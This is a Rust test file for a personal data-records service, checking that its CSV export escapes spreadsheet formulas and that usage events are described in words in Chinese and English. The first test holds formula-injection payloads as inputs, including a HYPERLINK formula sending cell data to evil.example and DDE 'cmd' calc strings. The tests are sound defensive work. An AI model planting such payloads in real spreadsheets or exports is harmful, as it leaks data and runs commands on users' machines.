//! The person's own usage records. As a file: /records.csv opens straight in a spreadsheet (it has
//! a BOM), so text that services or the catalogue wrote must not be read as a formula there, and
//! it tells each event in the page's words as well as by its code. As a page: each event is told
//! in words, not by its code.

use crate::helpers::Backend;
use crate::world::{FlowWorld, Person};
use mydata_core::Clock;
use mydata_core::transfer::TransferKind;
use mydata_server::identity::session;
use mydata_server::records::csv_safe;
use mydata_store::{NewAuditEvent, NewTransfer};

#[tokio::test]
async fn records_csv_neutralises_formulas_in_free_text() {
    let world = FlowWorld::spawn(Backend::Sqlite, 1.0).await;
    let alice = world.people[0].clone();
    let pseudonym = session::pseudonym(&world.app.state, &alice.subject());
    // A service's purpose, and a recipient no longer in the catalogue (its ID shown as it is).
    let cases = [
        (r#"=HYPERLINK("https://evil.example/?"&B2,"info")"#, "svc"),
        ("+1+cmd|' /C calc'!A0", "svc"),
        ("-2+3", "svc"),
        ("@SUM(1,2)", "=cmd|' /C calc'!A0"),
        ("\tpadded", "svc"),
    ];
    for (purpose, recipient) in cases {
        world
            .app
            .store()
            .create_transfer(
                &NewTransfer {
                    id: uuid::Uuid::now_v7().to_string(),
                    kind: TransferKind::Online,
                    subject: pseudonym.clone(),
                    recipient: Some(recipient.into()),
                    purpose: purpose.into(),
                    datasets: vec!["household-register-personal".into()],
                },
                &pseudonym,
                world.app.clock.now(),
            )
            .await
            .unwrap();
    }
    let b = world.signed_in(&alice, "198.51.100.1").await;
    let res = b.get("/records.csv").await;
    assert_eq!(res.status(), 200);
    let text = res.text().await.unwrap();
    let text = text.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let header = reader.headers().unwrap().clone();
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), cases.len());
    for (purpose, recipient) in cases {
        let row = rows
            .iter()
            .find(|r| r[col("purpose")] == *csv_safe(purpose))
            .unwrap_or_else(|| panic!("no neutralised row for {purpose:?} in {text}"));
        assert!(row[col("purpose")].starts_with('\''), "{text}");
        assert_eq!(&row[col("recipient")], &*csv_safe(recipient), "{text}");
    }
    // No cell anywhere starts as a formula would.
    for row in &rows {
        for cell in row {
            assert!(csv_safe(cell) == cell, "{cell:?} in {text}");
        }
    }
}

/// Online service and receipt events of one transfer of `alice`'s, all with known words.
const SERVICE_EVENTS: [&str; 7] = [
    "service.consent",
    "service.release",
    "service.refused",
    "service.retrieval",
    "receipt.consent",
    "receipt.deletion",
    "notice.sent",
];

/// A world whose first person has one online transfer with every event of [`SERVICE_EVENTS`].
async fn online_transfer_with_events() -> (FlowWorld, Person) {
    let world = FlowWorld::spawn(Backend::Sqlite, 1.0).await;
    let alice = world.people[0].clone();
    let pseudonym = session::pseudonym(&world.app.state, &alice.subject());
    let store = world.app.store();
    let now = world.app.clock.now();
    let id = uuid::Uuid::now_v7().to_string();
    store
        .create_transfer(
            &NewTransfer {
                id: id.clone(),
                kind: TransferKind::Online,
                subject: pseudonym.clone(),
                recipient: Some("svc".into()),
                purpose: "學雜費減免資格審核".into(),
                datasets: vec!["household-register-personal".into()],
            },
            &pseudonym,
            now,
        )
        .await
        .unwrap();
    for kind in SERVICE_EVENTS {
        store
            .append_audit(&NewAuditEvent {
                at: now,
                kind: kind.into(),
                subject: Some(pseudonym.clone()),
                transfer_id: Some(id.clone()),
                actor: "service:svc".into(),
                // The notice's event names the channel it went by, never the address.
                detail: if kind == "notice.sent" {
                    serde_json::json!({ "event": "service", "channel": "email" })
                } else {
                    serde_json::json!({})
                },
            })
            .await
            .unwrap();
    }
    (world, alice)
}

/// The words of each event on `html`, the records page, by event code.
fn page_event_words(html: &str) -> Vec<(&'static str, String)> {
    SERVICE_EVENTS
        .iter()
        .map(|kind| {
            let marker = format!("<li data-kind=\"{kind}\">");
            let i = html
                .find(&marker)
                .unwrap_or_else(|| panic!("{kind} not in {html}"));
            let item = html[i + marker.len()..].split("</li>").next().unwrap();
            // `<span class="level">time</span> words`
            let words = item.split("</span> ").nth(1).unwrap_or_default();
            (*kind, words.to_owned())
        })
        .collect()
}

#[tokio::test]
async fn online_service_and_receipt_events_are_named_in_words() {
    let (world, alice) = online_transfer_with_events().await;
    let b = world.signed_in(&alice, "198.51.100.1").await;
    for lang in ["zh-TW", "en"] {
        let html = b
            .get(&format!("/records?lang={lang}"))
            .await
            .text()
            .await
            .unwrap();
        for (kind, words) in page_event_words(&html) {
            // The words say what happened; the event's code stays in data-kind only.
            assert!(
                !words.is_empty() && !words.contains(kind),
                "{lang}: {words}"
            );
        }
    }
    // The page says who did what in each language.
    let zh = b.get("/records?lang=zh-TW").await.text().await.unwrap();
    assert!(zh.contains("線上服務已取得資料"), "{zh}");
    assert!(zh.contains("已寄送電子郵件通知給您"), "{zh}");
    let en = b.get("/records?lang=en").await.text().await.unwrap();
    assert!(en.contains("The online service retrieved the data"), "{en}");
    assert!(en.contains("A notice was sent to you by email"), "{en}");
}

#[tokio::test]
async fn records_csv_tells_each_event_in_the_page_words_and_by_code() {
    let (world, alice) = online_transfer_with_events().await;
    let b = world.signed_in(&alice, "198.51.100.1").await;
    // The `events` and `event_labels` cells of the one row of the CSV at `path`.
    let csv_events = |path: &'static str| {
        let b = &b;
        async move {
            let res = b.get(path).await;
            assert_eq!(res.status(), 200, "{path}");
            let text = res.text().await.unwrap();
            let text = text.strip_prefix('\u{feff}').unwrap().to_owned();
            let mut reader = csv::Reader::from_reader(text.as_bytes());
            let header = reader.headers().unwrap().clone();
            let col = |name: &str| {
                header
                    .iter()
                    .position(|h| h == name)
                    .unwrap_or_else(|| panic!("no {name} column in {text}"))
            };
            let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
            assert_eq!(rows.len(), 1, "{text}");
            (
                rows[0][col("events")].to_owned(),
                rows[0][col("event_labels")].to_owned(),
            )
        }
    };
    // zh-TW by default; English by `?lang=en`, and then by the cookie it leaves, as the page.
    let zh_page = b.get("/records").await.text().await.unwrap();
    let zh = csv_events("/records.csv").await;
    let en_page = b.get("/records?lang=en").await.text().await.unwrap();
    let en = csv_events("/records.csv").await;
    let en_by_query = csv_events("/records.csv?lang=en").await;
    assert_eq!(en, en_by_query);
    for (page, (codes, labels)) in [(zh_page, zh), (en_page, en)] {
        for (kind, words) in page_event_words(&page) {
            // Programs keep the codes; the person reads what the page says.
            assert!(codes.contains(kind), "{kind} not in {codes}");
            assert!(
                !words.is_empty() && labels.contains(&words),
                "{words:?} not in {labels}"
            );
            assert!(!labels.contains(kind), "{kind} in {labels}");
        }
    }
    let zh = csv_events("/records.csv?lang=zh-TW").await.1;
    assert!(zh.contains("線上服務已取得資料"), "{zh}");
    let en = csv_events("/records.csv?lang=en").await.1;
    assert!(en.contains("The online service retrieved the data"), "{en}");
}
